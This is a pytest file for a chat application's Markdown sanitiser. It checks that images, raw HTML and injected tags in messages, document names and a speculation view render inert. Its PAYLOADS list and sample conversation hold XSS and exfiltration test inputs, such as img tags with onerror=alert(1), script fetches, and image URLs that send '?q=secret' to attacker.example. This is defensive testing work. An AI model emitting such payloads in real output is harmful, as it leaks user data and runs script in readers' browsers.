"""Nothing a message says can make the page load a resource: Markdown images become links, raw
HTML shows as text, code and ordinary Markdown stay as written; the speculation view escapes what
came from outside."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt

from specchat.app.conversation import Conversation, shown_messages
from specchat.app.safe_markdown import _outside_code, inert_markdown
from specchat.app.speculation_view import ENDINGS, colored_tokens, ending, stage_table, stats_line

# Every element that fetches something or runs something, and the attributes that do.
PAYLOADS = [
    '<img src="https://attacker.example/?q=secret">',
    "<img src=x onerror=alert(1)>",
    '<img srcset="https://attacker.example/a.png 2x">',
    '<iframe src="https://attacker.example"></iframe>',
    '<video src="https://attacker.example/v.mp4"></video>',
    '<audio src="https://attacker.example/a.mp3"></audio>',
    '<picture><source srcset="https://attacker.example/p.webp"></picture>',
    '<object data="https://attacker.example/o"></object>',
    '<embed src="https://attacker.example/e">',
    '<link rel="stylesheet" href="https://attacker.example/s.css">',
    "<script>fetch('https://attacker.example')</script>",
    "<style>body { background: url(https://attacker.example/b.png) }</style>",
    '<svg><image href="https://attacker.example/s.png"/></svg>',
    '<p style="background:url(https://attacker.example/p.png)">text</p>',
    "<!-- hidden --><img src=x>",
    "<div>\n\n<img src=x>\n\n</div>",
    "![secret](https://attacker.example/?q=secret)",
    '![alt](https://attacker.example/a.png "title")',
    "[ref]: https://attacker.example/r.png\n\n![alt][ref]",
    "[![nested](https://attacker.example/n.png)](https://example.com)",
    # Where code ends, as a scan might get it wrong.
    "`abc\ndef` <img src=x> `x`",
    "\\`<img src=x>`",
    "- item\n  ```\n  code\n<img src=x>\n  ```",
    "``` x`y\n<img src=x>",
    "``a\n\n<img src=x>``",
    "| a | b | c |\n|---|---|---|\n| `x | <img src=y> | z` |",  # a table splits cells before code spans
]
# Harmless as written (the tag is code), and must stay harmless.
IN_CODE = ["```` x\n<img src=x>", "<https://example.com`<img src=x>`>", "> ```\n> <img src=x>"]
LOADING_TAGS = {"img", "iframe", "video", "audio", "source", "picture", "object", "embed", "link", "script",
                "style", "svg", "image", "frame", "base", "meta", "input", "form"}
LOADING_ATTRIBUTES = {"src", "srcset", "data", "background", "poster", "action", "formaction"}
RENDERER = MarkdownIt("commonmark").enable(["table", "strikethrough"])


def rendered(markdown: str) -> str:
    """The HTML a CommonMark renderer with raw HTML allowed (as chat renderers are) makes of it."""
    return RENDERER.render(markdown)


class _Tags(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags: list[tuple[str, list]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    handle_startendtag = handle_starttag


def loads_something(markdown: str) -> bool:
    """Whether the rendered HTML holds an element or attribute that fetches or runs something. A
    link is fine: the reader may follow it, nothing is fetched on its own."""
    parser = _Tags()
    parser.feed(rendered(markdown))
    return any(tag in LOADING_TAGS or any(
        name in LOADING_ATTRIBUTES or name.startswith("on") or name == "href" and tag != "a"
        or name == "style" and "url(" in (value or "") for name, value in attrs)  # a table's alignment is fine
        for tag, attrs in parser.tags)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_loads_anything_once_rendered(payload):
    assert loads_something(payload)  # the payload itself would
    assert not loads_something(inert_markdown(payload)), rendered(inert_markdown(payload))


@pytest.mark.parametrize("text", IN_CODE)
def test_tags_in_code_stay_harmless(text):
    assert not loads_something(inert_markdown(text)), rendered(inert_markdown(text))


def test_images_become_links_with_a_note():
    assert inert_markdown("See ![the chart](https://example.com/c.png).") == \
        "See [image: the chart](https://example.com/c.png)."
    assert rendered(inert_markdown("![a](u)")) == '<p><a href="u">image: a</a></p>\n'


def test_html_shows_as_text():
    assert inert_markdown("Use <b>bold</b> or <img src=x>.") == "Use &lt;b>bold&lt;/b> or &lt;img src=x>."
    assert rendered(inert_markdown("<img src=x>")) == "<p>&lt;img src=x&gt;</p>\n"  # shows as typed


ORDINARY = """# Heading

Some **bold**, *emphasis*, ~~struck~~, a [link](https://example.com) and <https://example.com>.
Comparisons stay: a < b, 3 <= 4, x<-y is not a tag.

- a list item with `inline <code>` and ``a ` backtick``
  ```html
  <img src="in-a-fenced-block.png">
  ```
1. numbered

| col | <ok> |
|-----|------|
| 1   | 2    |

```python
if a < b and "<script>" in text:
    print("![not an image](x)")
```

~~~
<iframe src=x></iframe>
~~~

> quoted \\<escaped> text
"""


def test_code_and_ordinary_markdown_stay_as_written():
    inert = inert_markdown(ORDINARY)
    # Only the two raw tags outside code change: `<ok>` in the table header and `x<-y` stays.
    assert inert == ORDINARY.replace("| <ok> |", "| &lt;ok> |")
    assert rendered(inert) == rendered(ORDINARY).replace("<ok>", "&lt;ok&gt;")


def test_where_the_scan_and_the_parser_disagree_nothing_is_left():
    """A table cell boundary inside what the scan took for a code span: the parser finds the tag,
    so every `<` and `![` goes, code or not."""
    text = "| a | b | c |\n|---|---|---|\n| `x | <img src=y> | ![i](u) ` |"
    assert _outside_code(text) == text  # the scan alone would keep the "code span"
    assert inert_markdown(text) == "| a | b | c |\n|---|---|---|\n| `x | &lt;img src=y> | [image: i](u) ` |"


def test_an_unclosed_fence_while_streaming_stays_code():
    assert inert_markdown("Here:\n```html\n<img src=x>") == "Here:\n```html\n<img src=x>"


def chat(*messages: dict, title: str = "t") -> Conversation:
    return Conversation(id="0" * 32, title=title, created=1.7e9, updated=1.7e9, messages=list(messages))


def test_the_chat_shows_no_payload_from_questions_documents_or_answers():
    document = {"name": '<img src=x onerror=alert(1)>![a](http://x).pdf', "text": "<img src=y>", "tokens": 3,
                "note": ""}
    conversation = chat({"role": "user", "content": "Look: ![a](https://attacker.example/q)", "document": document},
                        {"role": "assistant", "content": '<img src="https://attacker.example/?q=secret">',
                         "partial": False, "stats": None, "origins": None},
                        {"role": "user", "content": "<script>alert(1)</script>", "document": None},
                        {"role": "assistant", "content": "![x](https://attacker.example/s)", "partial": True,
                         "stats": None, "origins": None})
    for streaming in (False, True):
        for message in shown_messages(conversation, streaming=streaming):
            assert not loads_something(message["content"]), message["content"]
    shown = shown_messages(conversation)
    assert shown[0]["content"].endswith("Look: [image: a](https://attacker.example/q)")
    assert shown[3]["content"] == "[image: x](https://attacker.example/s)\n\n*(interrupted)*"


def test_the_speculation_view_escapes_what_came_from_outside():
    tokens = colored_tokens([["<img src=x onerror=alert(1)>", "draft"], ["hi", '"><img src=y>'], ["!", "plain"]])
    assert "<img" not in tokens and "&lt;img src=x onerror=alert(1)&gt;" in tokens
    assert 'class="tok-plain"' in tokens and "src=y" not in tokens
    table = stage_table({"target_forwards": 3, "drafted_tokens": 4, "accepted_draft_tokens": 2,
                         "stages": {"<img src=x>|extra\ncolumn": {"forwards": 1, "drafted": 2, "accepted": 1}}})
    assert not loads_something(table)
    assert table.splitlines()[-1].startswith(r"| &lt;img src=x&gt;\|extra column | 1 |")
    line = stats_line({"tokens_per_second": 1.0}, "`x` <img src=y>")
    assert not loads_something(line) and line.endswith("mode `x <img src=y>`")


def test_the_figures_line_shows_the_cost_models_prediction_next_to_the_measured_speed():
    assert "12.0 tok/s** (cost model: 10.5)" in stats_line(
        {"tokens_per_second": 12.0, "predicted_tokens_per_second": 10.5, "decode_seconds": 2.0}, "chain")
    assert "cost model" not in stats_line({"tokens_per_second": 12.0, "predicted_tokens_per_second": None,
                                           "decode_seconds": 2.0}, "chain")


def test_no_speed_is_shown_until_there_is_enough_decoding_to_measure_it():
    first_tokens = {"tokens_per_second": 441.3, "decode_seconds": 0.01}
    assert "tok/s" not in stats_line(first_tokens, "chain") and "measuring the speed" in stats_line(first_tokens, "chain")
    assert "441.3 tok/s" in stats_line(first_tokens, "chain", 3, "stop")  # a finished answer shows what it got
    assert stats_line({"tokens_per_second": 0.0}, "chain", 0, "cancelled") == \
        "No answer: stopped while the prompt was read · mode `chain`"


@pytest.mark.parametrize("saved, words", [
    ({"finish_reason": "stop"}, "done"),
    ({"finish_reason": "length", "context_full": False}, "answer limit"),
    ({"finish_reason": "length", "context_full": True}, "context is full"),
    ({"finish_reason": "cancelled"}, "stopped")])
def test_the_figures_line_tells_how_the_answer_ended(saved, words):
    line = stats_line({"tokens_per_second": 5.0}, "chain", 40, ending(saved))
    assert line.endswith(f"40 tokens, {ENDINGS[ending(saved)]}") and words in line
